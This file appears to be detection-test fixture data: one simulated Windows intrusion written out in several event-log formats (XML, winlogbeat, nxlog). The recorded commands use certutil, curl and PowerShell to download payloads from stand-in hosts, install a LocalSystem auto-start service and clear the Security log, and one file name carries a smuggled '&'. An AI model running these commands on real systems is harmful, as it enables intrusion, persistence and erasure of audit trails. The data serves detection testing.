      <Provider Name="Microsoft-Windows-Security-Auditing" Guid="{54849625-5478-4994-a5ba-3e3b0328c30d}"/>
      <EventID>4688</EventID>
      <Version>2</Version>
      <Level>4</Level>
      <Task>13312</Task>
      <Opcode>0</Opcode>
      <Keywords>0x8020000000000000</Keywords>
      <TimeCreated SystemTime="2026-11-24T08:00:05.0000000Z"/>
      <EventRecordID>74178</EventRecordID>
      <Correlation/>
      <Execution ProcessID="3308" ThreadID="4008"/>
      <Channel>Security</Channel>
      <Computer>ws5.corp.example</Computer>
      <Security/>
    </System>
    <EventData>
      <Data Name="SubjectUserSid">S-1-5-21-1004336348-1177238915-682003330-1107</Data>
      <Data Name="SubjectUserName">amara</Data>
      <Data Name="SubjectDomainName">CORP</Data>
      <Data Name="SubjectLogonId">0x3e7a1</Data>
      <Data Name="NewProcessId">0x1a2c</Data>
      <Data Name="NewProcessName">C:\Windows\System32\curl.exe</Data>
      <Data Name="TokenElevationType">%%1938</Data>
      <Data Name="ProcessId">0x1004</Data>
      <Data Name="CommandLine">curl.exe -o C:\Users\Public\größe.bin https://paste.example/r/7</Data>
      <Data Name="TargetUserSid">S-1-0-0</Data>
      <Data Name="TargetUserName">-</Data>
      <Data Name="TargetDomainName">-</Data>
      <Data Name="TargetLogonId">0x0</Data>
      <Data Name="ParentProcessName">C:\Windows\System32\cmd.exe</Data>
      <Data Name="MandatoryLabel">S-1-16-8192</Data>
    </EventData>
  </Event>
  <Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>
    <System>
      <Provider Name="Microsoft-Windows-Security-Auditing" Guid="{54849625-5478-4994-a5ba-3e3b0328c30d}"/>
      <EventID>4624</EventID>
      <Version>2</Version>
      <Level>4</Level>
      <Task>12544</Task>
      <Opcode>0</Opcode>
      <Keywords>0x8020000000000000</Keywords>
      <TimeCreated SystemTime="2026-11-24T08:00:06.0000000Z"/>
      <EventRecordID>74179</EventRecordID>
      <Correlation/>
      <Execution ProcessID="3308" ThreadID="4008"/>
      <Channel>Security</Channel>
      <Computer>ws5.corp.example</Computer>
      <Security/>
    </System>
    <EventData>
      <Data Name="SubjectUserSid">S-1-0-0</Data>
      <Data Name="SubjectUserName">-</Data>
      <Data Name="SubjectDomainName">-</Data>
      <Data Name="SubjectLogonId">0x0</Data>
      <Data Name="TargetUserSid">S-1-5-21-1004336348-1177238915-682003330-1107</Data>
      <Data Name="TargetUserName">amara</Data>
      <Data Name="TargetDomainName">CORP</Data>
      <Data Name="TargetLogonId">0x51f02</Data>
      <Data Name="LogonType">3</Data>
      <Data Name="LogonProcessName">NtLmSsp </Data>
      <Data Name="AuthenticationPackageName">NTLM</Data>
      <Data Name="WorkstationName">WS9</Data>
      <Data Name="LogonGuid">{00000000-0000-0000-0000-000000000000}</Data>
      <Data Name="TransmittedServices">-</Data>
      <Data Name="LmPackageName">NTLM V2</Data>
      <Data Name="KeyLength">128</Data>
      <Data Name="ProcessId">0x0</Data>
      <Data Name="ProcessName">-</Data>
      <Data Name="IpAddress">192.0.2.9</Data>
      <Data Name="IpPort">49771</Data>
      <Data Name="ImpersonationLevel">%%1833</Data>
    </EventData>
  </Event>
  <Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>
    <System>
      <Provider Name="Microsoft-Windows-PowerShell" Guid="{a0c1853b-5c40-4b15-8766-3cf1c58f985a}"/>
      <EventID>4104</EventID>
      <Version>1</Version>
      <Level>4</Level>
      <Task>2</Task>
      <Opcode>0</Opcode>
      <Keywords>0x0</Keywords>
      <TimeCreated SystemTime="2026-11-24T08:00:07.0000000Z"/>
      <EventRecordID>74180</EventRecordID>
      <Correlation/>
      <Execution ProcessID="3308" ThreadID="4008"/>
      <Channel>Microsoft-Windows-PowerShell/Operational</Channel>
      <Computer>ws5.corp.example</Computer>
      <Security UserID="S-1-5-21-1004336348-1177238915-682003330-1107"/>
    </System>
    <EventData>
      <Data Name="MessageNumber">1</Data>
      <Data Name="MessageTotal">1</Data>
      <Data Name="ScriptBlockText">if (1 -lt 2) { iwr 'https://paste.example/r/8' -OutFile $env:TEMP\a.dll }
# "done"</Data>
      <Data Name="ScriptBlockId">0d7f3a1e-55b1-4f0e-9a55-0c1f6c3b8a11</Data>
      <Data Name="Path">C:\Users\amara\stage.ps1</Data>
    </EventData>
  </Event>
  <Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>
    <System>
      <Provider Name="Service Control Manager" Guid="{555908d1-a6d7-4695-8e1e-26931d2012f4}"/>
      <EventID Qualifiers="16384">7045</EventID>
      <Version>0</Version>
      <Level>4</Level>
      <Task>0</Task>
      <Opcode>0</Opcode>
      <Keywords>0x8080000000000000</Keywords>
      <TimeCreated SystemTime="2026-11-24T08:00:08.0000000Z"/>
      <EventRecordID>74181</EventRecordID>
      <Correlation/>
      <Execution ProcessID="3308" ThreadID="4008"/>
      <Channel>System</Channel>
      <Computer>ws5.corp.example</Computer>
      <Security UserID="S-1-5-21-1004336348-1177238915-682003330-1107"/>
    </System>
    <EventData>
      <Data Name="ServiceName">Updater</Data>
      <Data Name="ImagePath">"C:\Users\Public\update &amp; go.exe" /svc</Data>
      <Data Name="ServiceType">user mode service</Data>
      <Data Name="StartType">auto start</Data>
      <Data Name="AccountName">LocalSystem</Data>
    </EventData>
  </Event>
  <Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>
    <System>
      <Provider Name="Microsoft-Windows-Eventlog" Guid="{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}"/>
      <EventID>1102</EventID>
      <Version>0</Version>
      <Level>4</Level>
      <Task>104</Task>
      <Opcode>0</Opcode>
      <Keywords>0x4020000000000000</Keywords>
      <TimeCreated SystemTime="2026-11-24T08:00:09.0000000Z"/>
      <EventRecordID>74182</EventRecordID>
      <Correlation/>
      <Execution ProcessID="3308" ThreadID="4008"/>
      <Channel>Security</Channel>
      <Computer>ws5.corp.example</Computer>
      <Security/>
    </System>
    <UserData>
      <LogFileCleared xmlns="http://manifests.microsoft.com/win/2004/08/windows/eventlog">
        <SubjectUserSid>S-1-5-21-1004336348-1177238915-682003330-1107</SubjectUserSid>
        <SubjectUserName>amara</SubjectUserName>
        <SubjectDomainName>CORP</SubjectDomainName>
        <SubjectLogonId>0x3e7a1</SubjectLogonId>
      </LogFileCleared>
    </UserData>
  </Event>
</Events>
--- input shape/winlogbeat-7=winlogbeat-7-events.ndjson
{"@timestamp":"2026-11-24T08:00:01.000Z","event":{"code":1,"kind":"event","provider":"Microsoft-Windows-Sysmon","created":"2026-11-24T08:00:01.900Z"},"host":{"name":"ws5.corp.example","hostname":"ws5"},"log":{"level":"information"},"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","provider_guid":"{5770385F-C22A-43E0-BF4C-06F5698FFBD9}","record_id":74174,"computer_name":"ws5.corp.example","process":{"pid":3308,"thread":{"id":4008}},"event_id":1,"task":"","opcode":"Info","version":5,"api":"wineventlog","user":{"identifier":"S-1-5-18","name":"SYSTEM","domain":"NT AUTHORITY","type":"User"},"event_data":{"RuleName":"-","UtcTime":"2026-11-24 08:00:01.000","ProcessGuid":"{5AA13A44-0C90-68FC-0001-000000004002}","ProcessId":"5320","Image":"C:\\Windows\\System32\\certutil.exe","OriginalFileName":"CertUtil.exe","CommandLine":"certutil.exe -urlcache -split -f http://files.cdn-stage.example/up/update.exe \"C:\\Users\\Public\\update & go.exe\"","CurrentDirectory":"C:\\Users\\amara\\","User":"CORP\\amara","LogonGuid":"{5AA13A44-0C90-68FC-0002-000000004002}","LogonId":"0x3e7a1","TerminalSessionId":"1","IntegrityLevel":"Medium","Hashes":"MD5=5D41402ABC4B2A76B9719D911017C592,SHA256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08,IMPHASH=F34D5F2D4577ED6D9CEEC516C1F5A744","ParentProcessGuid":"{5AA13A44-0C90-68FC-0003-000000004002}","ParentProcessId":"4100","ParentImage":"C:\\Windows\\System32\\cmd.exe","ParentCommandLine":"\"C:\\Windows\\system32\\cmd.exe\" /c stage.bat","ParentUser":"CORP\\amara"}},"message":"See event_data.","agent":{"type":"winlogbeat","version":"7.17.3","hostname":"ws5"},"ecs":{"version":"1.12.0"}}
{"@timestamp":"2026-11-24T08:00:02.000Z","event":{"code":22,"kind":"event","provider":"Microsoft-Windows-Sysmon","created":"2026-11-24T08:00:02.900Z"},"host":{"name":"ws5.corp.example","hostname":"ws5"},"log":{"level":"information"},"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","provider_guid":"{5770385F-C22A-43E0-BF4C-06F5698FFBD9}","record_id":74175,"computer_name":"ws5.corp.example","process":{"pid":3308,"thread":{"id":4008}},"event_id":22,"task":"","opcode":"Info","version":5,"api":"wineventlog","user":{"identifier":"S-1-5-18","name":"SYSTEM","domain":"NT AUTHORITY","type":"User"},"event_data":{"RuleName":"-","UtcTime":"2026-11-24 08:00:02.000","ProcessGuid":"{5AA13A44-0C90-68FC-0001-000000004002}","ProcessId":"5320","QueryName":"files.cdn-stage.example","QueryStatus":"0","QueryResults":"::ffff:203.0.113.20;","Image":"C:\\Windows\\System32\\certutil.exe","User":"CORP\\amara"}},"message":"See event_data.","agent":{"type":"winlogbeat","version":"7.17.3","hostname":"ws5"},"ecs":{"version":"1.12.0"}}
{"@timestamp":"2026-11-24T08:00:03.000Z","event":{"code":3,"kind":"event","provider":"Microsoft-Windows-Sysmon","created":"2026-11-24T08:00:03.900Z"},"host":{"name":"ws5.corp.example","hostname":"ws5"},"log":{"level":"information"},"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","provider_guid":"{5770385F-C22A-43E0-BF4C-06F5698FFBD9}","record_id":74176,"computer_name":"ws5.corp.example","process":{"pid":3308,"thread":{"id":4008}},"event_id":3,"task":"","opcode":"Info","version":5,"api":"wineventlog","user":{"identifier":"S-1-5-18","name":"SYSTEM","domain":"NT AUTHORITY","type":"User"},"event_data":{"RuleName":"-","UtcTime":"2026-11-24 08:00:03.000","ProcessGuid":"{5AA13A44-0C90-68FC-0001-000000004002}","ProcessId":"5320","Image":"C:\\Windows\\System32\\certutil.exe","User":"CORP\\amara","Protocol":"tcp","Initiated":"true","SourceIsIpv6":"false","SourceIp":"192.0.2.5","SourceHostname":"ws5.corp.example","SourcePort":"50123","DestinationIsIpv6":"false","DestinationIp":"203.0.113.20","DestinationHostname":"files.cdn-stage.example","DestinationPort":"80"}},"message":"See event_data.","agent":{"type":"winlogbeat","version":"7.17.3","hostname":"ws5"},"ecs":{"version":"1.12.0"}}
{"@timestamp":"2026-11-24T08:00:04.000Z","event":{"code":11,"kind":"event","provider":"Microsoft-Windows-Sysmon","created":"2026-11-24T08:00:04.900Z"},"host":{"name":"ws5.corp.example","hostname":"ws5"},"log":{"level":"information"},"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","provider_guid":"{5770385F-C22A-43E0-BF4C-06F5698FFBD9}","record_id":74177,"computer_name":"ws5.corp.example","process":{"pid":3308,"thread":{"id":4008}},"event_id":11,"task":"","opcode":"Info","version":5,"api":"wineventlog","user":{"identifier":"S-1-5-18","name":"SYSTEM","domain":"NT AUTHORITY","type":"User"},"event_data":{"RuleName":"-","UtcTime":"2026-11-24 08:00:04.000","ProcessGuid":"{5AA13A44-0C90-68FC-0001-000000004002}","ProcessId":"5320","Image":"C:\\Windows\\System32\\certutil.exe","TargetFilename":"C:\\Users\\Public\\update & go.exe","CreationUtcTime":"2026-11-24 08:00:04.000","User":"CORP\\amara"}},"message":"See event_data.","agent":{"type":"winlogbeat","version":"7.17.3","hostname":"ws5"},"ecs":{"version":"1.12.0"}}
{"@timestamp":"2026-11-24T08:00:05.000Z","event":{"code":4688,"kind":"event","provider":"Microsoft-Windows-Security-Auditing","created":"2026-11-24T08:00:05.900Z"},"host":{"name":"ws5.corp.example","hostname":"ws5"},"log":{"level":"information"},"winlog":{"channel":"Security","provider_name":"Microsoft-Windows-Security-Auditing","provider_guid":"{54849625-5478-4994-A5BA-3E3B0328C30D}","record_id":74178,"computer_name":"ws5.corp.example","process":{"pid":3308,"thread":{"id":4008}},"event_id":4688,"task":"","opcode":"Info","version":2,"api":"wineventlog","event_data":{"SubjectUserSid":"S-1-5-21-1004336348-1177238915-682003330-1107","SubjectUserName":"amara","SubjectDomainName":"CORP","SubjectLogonId":"0x3e7a1","NewProcessId":"0x1a2c","NewProcessName":"C:\\Windows\\System32\\curl.exe","TokenElevationType":"%%1938","ProcessId":"0x1004","CommandLine":"curl.exe -o C:\\Users\\Public\\größe.bin https://paste.example/r/7","TargetUserSid":"S-1-0-0","TargetUserName":"-","TargetDomainName":"-","TargetLogonId":"0x0","ParentProcessName":"C:\\Windows\\System32\\cmd.exe","MandatoryLabel":"S-1-16-8192"}},"message":"See event_data.","agent":{"type":"winlogbeat","version":"7.17.3","hostname":"ws5"},"ecs":{"version":"1.12.0"}}
{"@timestamp":"2026-11-24T08:00:06.000Z","event":{"code":4624,"kind":"event","provider":"Microsoft-Windows-Security-Auditing","created":"2026-11-24T08:00:06.900Z"},"host":{"name":"ws5.corp.example","hostname":"ws5"},"log":{"level":"information"},"winlog":{"channel":"Security","provider_name":"Microsoft-Windows-Security-Auditing","provider_guid":"{54849625-5478-4994-A5BA-3E3B0328C30D}","record_id":74179,"computer_name":"ws5.corp.example","process":{"pid":3308,"thread":{"id":4008}},"event_id":4624,"task":"","opcode":"Info","version":2,"api":"wineventlog","event_data":{"SubjectUserSid":"S-1-0-0","SubjectUserName":"-","SubjectDomainName":"-","SubjectLogonId":"0x0","TargetUserSid":"S-1-5-21-1004336348-1177238915-682003330-1107","TargetUserName":"amara","TargetDomainName":"CORP","TargetLogonId":"0x51f02","LogonType":"3","LogonProcessName":"NtLmSsp ","AuthenticationPackageName":"NTLM","WorkstationName":"WS9","LogonGuid":"{00000000-0000-0000-0000-000000000000}","TransmittedServices":"-","LmPackageName":"NTLM V2","KeyLength":"128","ProcessId":"0x0","ProcessName":"-","IpAddress":"192.0.2.9","IpPort":"49771","ImpersonationLevel":"%%1833"}},"message":"See event_data.","agent":{"type":"winlogbeat","version":"7.17.3","hostname":"ws5"},"ecs":{"version":"1.12.0"}}
{"@timestamp":"2026-11-24T08:00:07.000Z","event":{"code":4104,"kind":"event","provider":"Microsoft-Windows-PowerShell","created":"2026-11-24T08:00:07.900Z"},"host":{"name":"ws5.corp.example","hostname":"ws5"},"log":{"level":"information"},"winlog":{"channel":"Microsoft-Windows-PowerShell/Operational","provider_name":"Microsoft-Windows-PowerShell","provider_guid":"{A0C1853B-5C40-4B15-8766-3CF1C58F985A}","record_id":74180,"computer_name":"ws5.corp.example","process":{"pid":3308,"thread":{"id":4008}},"event_id":4104,"task":"","opcode":"Info","version":1,"api":"wineventlog","user":{"identifier":"S-1-5-21-1004336348-1177238915-682003330-1107"},"event_data":{"MessageNumber":"1","MessageTotal":"1","ScriptBlockText":"if (1 -lt 2) { iwr 'https://paste.example/r/8' -OutFile $env:TEMP\\a.dll }\n# \"done\"","ScriptBlockId":"0d7f3a1e-55b1-4f0e-9a55-0c1f6c3b8a11","Path":"C:\\Users\\amara\\stage.ps1"}},"message":"See event_data.","agent":{"type":"winlogbeat","version":"7.17.3","hostname":"ws5"},"ecs":{"version":"1.12.0"}}
{"@timestamp":"2026-11-24T08:00:08.000Z","event":{"code":7045,"kind":"event","provider":"Service Control Manager","created":"2026-11-24T08:00:08.900Z"},"host":{"name":"ws5.corp.example","hostname":"ws5"},"log":{"level":"information"},"winlog":{"channel":"System","provider_name":"Service Control Manager","provider_guid":"{555908D1-A6D7-4695-8E1E-26931D2012F4}","record_id":74181,"computer_name":"ws5.corp.example","process":{"pid":3308,"thread":{"id":4008}},"event_id":7045,"task":"","opcode":"Info","version":0,"api":"wineventlog","user":{"identifier":"S-1-5-21-1004336348-1177238915-682003330-1107"},"event_data":{"ServiceName":"Updater","ImagePath":"\"C:\\Users\\Public\\update & go.exe\" /svc","ServiceType":"user mode service","StartType":"auto start","AccountName":"LocalSystem"}},"message":"See event_data.","agent":{"type":"winlogbeat","version":"7.17.3","hostname":"ws5"},"ecs":{"version":"1.12.0"}}
{"@timestamp":"2026-11-24T08:00:09.000Z","event":{"code":1102,"kind":"event","provider":"Microsoft-Windows-Eventlog","created":"2026-11-24T08:00:09.900Z"},"host":{"name":"ws5.corp.example","hostname":"ws5"},"log":{"level":"information"},"winlog":{"channel":"Security","provider_name":"Microsoft-Windows-Eventlog","provider_guid":"{FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148}","record_id":74182,"computer_name":"ws5.corp.example","process":{"pid":3308,"thread":{"id":4008}},"event_id":1102,"task":"","opcode":"Info","version":0,"api":"wineventlog","user_data":{"xml_name":"LogFileCleared","SubjectUserSid":"S-1-5-21-1004336348-1177238915-682003330-1107","SubjectUserName":"amara","SubjectDomainName":"CORP","SubjectLogonId":"0x3e7a1"}},"message":"See event_data.","agent":{"type":"winlogbeat","version":"7.17.3","hostname":"ws5"},"ecs":{"version":"1.12.0"}}
--- input shape/winlogbeat-6=winlogbeat-6-events.ndjson
{"@timestamp":"2026-11-24T08:00:01.000Z","beat":{"name":"ws5","hostname":"ws5","version":"6.8.23"},"host":{"name":"ws5"},"computer_name":"ws5.corp.example","event_id":1,"log_name":"Microsoft-Windows-Sysmon/Operational","source_name":"Microsoft-Windows-Sysmon","provider_guid":"{5770385F-C22A-43E0-BF4C-06F5698FFBD9}","record_number":"74174","process_id":3308,"thread_id":4008,"level":"Information","opcode":"Info","task":"","type":"wineventlog","version":5,"message":"See event_data.","user":{"identifier":"S-1-5-18","name":"SYSTEM","domain":"NT AUTHORITY","type":"User"},"event_data":{"RuleName":"-","UtcTime":"2026-11-24 08:00:01.000","ProcessGuid":"{5AA13A44-0C90-68FC-0001-000000004002}","ProcessId":"5320","Image":"C:\\Windows\\System32\\certutil.exe","OriginalFileName":"CertUtil.exe","CommandLine":"certutil.exe -urlcache -split -f http://files.cdn-stage.example/up/update.exe \"C:\\Users\\Public\\update & go.exe\"","CurrentDirectory":"C:\\Users\\amara\\","User":"CORP\\amara","LogonGuid":"{5AA13A44-0C90-68FC-0002-000000004002}","LogonId":"0x3e7a1","TerminalSessionId":"1","IntegrityLevel":"Medium","Hashes":"MD5=5D41402ABC4B2A76B9719D911017C592,SHA256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08,IMPHASH=F34D5F2D4577ED6D9CEEC516C1F5A744","ParentProcessGuid":"{5AA13A44-0C90-68FC-0003-000000004002}","ParentProcessId":"4100","ParentImage":"C:\\Windows\\System32\\cmd.exe","ParentCommandLine":"\"C:\\Windows\\system32\\cmd.exe\" /c stage.bat","ParentUser":"CORP\\amara"}}
{"@timestamp":"2026-11-24T08:00:02.000Z","beat":{"name":"ws5","hostname":"ws5","version":"6.8.23"},"host":{"name":"ws5"},"computer_name":"ws5.corp.example","event_id":22,"log_name":"Microsoft-Windows-Sysmon/Operational","source_name":"Microsoft-Windows-Sysmon","provider_guid":"{5770385F-C22A-43E0-BF4C-06F5698FFBD9}","record_number":"74175","process_id":3308,"thread_id":4008,"level":"Information","opcode":"Info","task":"","type":"wineventlog","version":5,"message":"See event_data.","user":{"identifier":"S-1-5-18","name":"SYSTEM","domain":"NT AUTHORITY","type":"User"},"event_data":{"RuleName":"-","UtcTime":"2026-11-24 08:00:02.000","ProcessGuid":"{5AA13A44-0C90-68FC-0001-000000004002}","ProcessId":"5320","QueryName":"files.cdn-stage.example","QueryStatus":"0","QueryResults":"::ffff:203.0.113.20;","Image":"C:\\Windows\\System32\\certutil.exe","User":"CORP\\amara"}}
{"@timestamp":"2026-11-24T08:00:03.000Z","beat":{"name":"ws5","hostname":"ws5","version":"6.8.23"},"host":{"name":"ws5"},"computer_name":"ws5.corp.example","event_id":3,"log_name":"Microsoft-Windows-Sysmon/Operational","source_name":"Microsoft-Windows-Sysmon","provider_guid":"{5770385F-C22A-43E0-BF4C-06F5698FFBD9}","record_number":"74176","process_id":3308,"thread_id":4008,"level":"Information","opcode":"Info","task":"","type":"wineventlog","version":5,"message":"See event_data.","user":{"identifier":"S-1-5-18","name":"SYSTEM","domain":"NT AUTHORITY","type":"User"},"event_data":{"RuleName":"-","UtcTime":"2026-11-24 08:00:03.000","ProcessGuid":"{5AA13A44-0C90-68FC-0001-000000004002}","ProcessId":"5320","Image":"C:\\Windows\\System32\\certutil.exe","User":"CORP\\amara","Protocol":"tcp","Initiated":"true","SourceIsIpv6":"false","SourceIp":"192.0.2.5","SourceHostname":"ws5.corp.example","SourcePort":"50123","DestinationIsIpv6":"false","DestinationIp":"203.0.113.20","DestinationHostname":"files.cdn-stage.example","DestinationPort":"80"}}
{"@timestamp":"2026-11-24T08:00:04.000Z","beat":{"name":"ws5","hostname":"ws5","version":"6.8.23"},"host":{"name":"ws5"},"computer_name":"ws5.corp.example","event_id":11,"log_name":"Microsoft-Windows-Sysmon/Operational","source_name":"Microsoft-Windows-Sysmon","provider_guid":"{5770385F-C22A-43E0-BF4C-06F5698FFBD9}","record_number":"74177","process_id":3308,"thread_id":4008,"level":"Information","opcode":"Info","task":"","type":"wineventlog","version":5,"message":"See event_data.","user":{"identifier":"S-1-5-18","name":"SYSTEM","domain":"NT AUTHORITY","type":"User"},"event_data":{"RuleName":"-","UtcTime":"2026-11-24 08:00:04.000","ProcessGuid":"{5AA13A44-0C90-68FC-0001-000000004002}","ProcessId":"5320","Image":"C:\\Windows\\System32\\certutil.exe","TargetFilename":"C:\\Users\\Public\\update & go.exe","CreationUtcTime":"2026-11-24 08:00:04.000","User":"CORP\\amara"}}
{"@timestamp":"2026-11-24T08:00:05.000Z","beat":{"name":"ws5","hostname":"ws5","version":"6.8.23"},"host":{"name":"ws5"},"computer_name":"ws5.corp.example","event_id":4688,"log_name":"Security","source_name":"Microsoft-Windows-Security-Auditing","provider_guid":"{54849625-5478-4994-A5BA-3E3B0328C30D}","record_number":"74178","process_id":3308,"thread_id":4008,"level":"Information","opcode":"Info","task":"","type":"wineventlog","version":2,"message":"See event_data.","event_data":{"SubjectUserSid":"S-1-5-21-1004336348-1177238915-682003330-1107","SubjectUserName":"amara","SubjectDomainName":"CORP","SubjectLogonId":"0x3e7a1","NewProcessId":"0x1a2c","NewProcessName":"C:\\Windows\\System32\\curl.exe","TokenElevationType":"%%1938","ProcessId":"0x1004","CommandLine":"curl.exe -o C:\\Users\\Public\\größe.bin https://paste.example/r/7","TargetUserSid":"S-1-0-0","TargetUserName":"-","TargetDomainName":"-","TargetLogonId":"0x0","ParentProcessName":"C:\\Windows\\System32\\cmd.exe","MandatoryLabel":"S-1-16-8192"}}
{"@timestamp":"2026-11-24T08:00:06.000Z","beat":{"name":"ws5","hostname":"ws5","version":"6.8.23"},"host":{"name":"ws5"},"computer_name":"ws5.corp.example","event_id":4624,"log_name":"Security","source_name":"Microsoft-Windows-Security-Auditing","provider_guid":"{54849625-5478-4994-A5BA-3E3B0328C30D}","record_number":"74179","process_id":3308,"thread_id":4008,"level":"Information","opcode":"Info","task":"","type":"wineventlog","version":2,"message":"See event_data.","event_data":{"SubjectUserSid":"S-1-0-0","SubjectUserName":"-","SubjectDomainName":"-","SubjectLogonId":"0x0","TargetUserSid":"S-1-5-21-1004336348-1177238915-682003330-1107","TargetUserName":"amara","TargetDomainName":"CORP","TargetLogonId":"0x51f02","LogonType":"3","LogonProcessName":"NtLmSsp ","AuthenticationPackageName":"NTLM","WorkstationName":"WS9","LogonGuid":"{00000000-0000-0000-0000-000000000000}","TransmittedServices":"-","LmPackageName":"NTLM V2","KeyLength":"128","ProcessId":"0x0","ProcessName":"-","IpAddress":"192.0.2.9","IpPort":"49771","ImpersonationLevel":"%%1833"}}
{"@timestamp":"2026-11-24T08:00:07.000Z","beat":{"name":"ws5","hostname":"ws5","version":"6.8.23"},"host":{"name":"ws5"},"computer_name":"ws5.corp.example","event_id":4104,"log_name":"Microsoft-Windows-PowerShell/Operational","source_name":"Microsoft-Windows-PowerShell","provider_guid":"{A0C1853B-5C40-4B15-8766-3CF1C58F985A}","record_number":"74180","process_id":3308,"thread_id":4008,"level":"Information","opcode":"Info","task":"","type":"wineventlog","version":1,"message":"See event_data.","user":{"identifier":"S-1-5-21-1004336348-1177238915-682003330-1107"},"event_data":{"MessageNumber":"1","MessageTotal":"1","ScriptBlockText":"if (1 -lt 2) { iwr 'https://paste.example/r/8' -OutFile $env:TEMP\\a.dll }\n# \"done\"","ScriptBlockId":"0d7f3a1e-55b1-4f0e-9a55-0c1f6c3b8a11","Path":"C:\\Users\\amara\\stage.ps1"}}
{"@timestamp":"2026-11-24T08:00:08.000Z","beat":{"name":"ws5","hostname":"ws5","version":"6.8.23"},"host":{"name":"ws5"},"computer_name":"ws5.corp.example","event_id":7045,"log_name":"System","source_name":"Service Control Manager","provider_guid":"{555908D1-A6D7-4695-8E1E-26931D2012F4}","record_number":"74181","process_id":3308,"thread_id":4008,"level":"Information","opcode":"Info","task":"","type":"wineventlog","version":0,"message":"See event_data.","user":{"identifier":"S-1-5-21-1004336348-1177238915-682003330-1107"},"event_data":{"ServiceName":"Updater","ImagePath":"\"C:\\Users\\Public\\update & go.exe\" /svc","ServiceType":"user mode service","StartType":"auto start","AccountName":"LocalSystem"}}
{"@timestamp":"2026-11-24T08:00:09.000Z","beat":{"name":"ws5","hostname":"ws5","version":"6.8.23"},"host":{"name":"ws5"},"computer_name":"ws5.corp.example","event_id":1102,"log_name":"Security","source_name":"Microsoft-Windows-Eventlog","provider_guid":"{FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148}","record_number":"74182","process_id":3308,"thread_id":4008,"level":"Information","opcode":"Info","task":"","type":"wineventlog","version":0,"message":"See event_data.","user_data":{"xml_name":"LogFileCleared","SubjectUserSid":"S-1-5-21-1004336348-1177238915-682003330-1107","SubjectUserName":"amara","SubjectDomainName":"CORP","SubjectLogonId":"0x3e7a1"}}
--- input shape/nxlog=nxlog-events.json
{"EventTime":"2026-11-24 08:00:01","Hostname":"ws5.corp.example","Keywords":"0x8000000000000000","EventType":"INFO","SeverityValue":2,"Severity":"INFO","EventID":1,"SourceName":"Microsoft-Windows-Sysmon","ProviderGuid":"{5770385F-C22A-43E0-BF4C-06F5698FFBD9}","Version":5,"Task":1,"OpcodeValue":0,"RecordNumber":74174,"ProcessID":3308,"ThreadID":4008,"Channel":"Microsoft-Windows-Sysmon/Operational","Domain":"NT AUTHORITY","AccountName":"SYSTEM","UserID":"S-1-5-18","AccountType":"User","Message":"See the fields.","Opcode":"Info","RuleName":"-","UtcTime":"2026-11-24 08:00:01.000","ProcessGuid":"{5AA13A44-0C90-68FC-0001-000000004002}","ProcessId":"5320","Image":"C:\\Windows\\System32\\certutil.exe","OriginalFileName":"CertUtil.exe","CommandLine":"certutil.exe -urlcache -split -f http://files.cdn-stage.example/up/update.exe \"C:\\Users\\Public\\update & go.exe\"","CurrentDirectory":"C:\\Users\\amara\\","User":"CORP\\amara","LogonGuid":"{5AA13A44-0C90-68FC-0002-000000004002}","LogonId":"0x3e7a1","TerminalSessionId":"1","IntegrityLevel":"Medium","Hashes":"MD5=5D41402ABC4B2A76B9719D911017C592,SHA256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08,IMPHASH=F34D5F2D4577ED6D9CEEC516C1F5A744","ParentProcessGuid":"{5AA13A44-0C90-68FC-0003-000000004002}","ParentProcessId":"4100","ParentImage":"C:\\Windows\\System32\\cmd.exe","ParentCommandLine":"\"C:\\Windows\\system32\\cmd.exe\" /c stage.bat","ParentUser":"CORP\\amara","EventReceivedTime":"2026-11-24 08:00:59","SourceModuleName":"eventlog","SourceModuleType":"im_msvistalog"}
{"EventTime":"2026-11-24 08:00:02","Hostname":"ws5.corp.example","Keywords":"0x8000000000000000","EventType":"INFO","SeverityValue":2,"Severity":"INFO","EventID":22,"SourceName":"Microsoft-Windows-Sysmon","ProviderGuid":"{5770385F-C22A-43E0-BF4C-06F5698FFBD9}","Version":5,"Task":22,"OpcodeValue":0,"RecordNumber":74175,"ProcessID":3308,"ThreadID":4008,"Channel":"Microsoft-Windows-Sysmon/Operational","Domain":"NT AUTHORITY","AccountName":"SYSTEM","UserID":"S-1-5-18","AccountType":"User","Message":"See the fields.","Opcode":"Info","RuleName":"-","UtcTime":"2026-11-24 08:00:02.000","ProcessGuid":"{5AA13A44-0C90-68FC-0001-000000004002}","ProcessId":"5320","QueryName":"files.cdn-stage.example","QueryStatus":"0","QueryResults":"::ffff:203.0.113.20;","Image":"C:\\Windows\\System32\\certutil.exe","User":"CORP\\amara","EventReceivedTime":"2026-11-24 08:00:59","SourceModuleName":"eventlog","SourceModuleType":"im_msvistalog"}
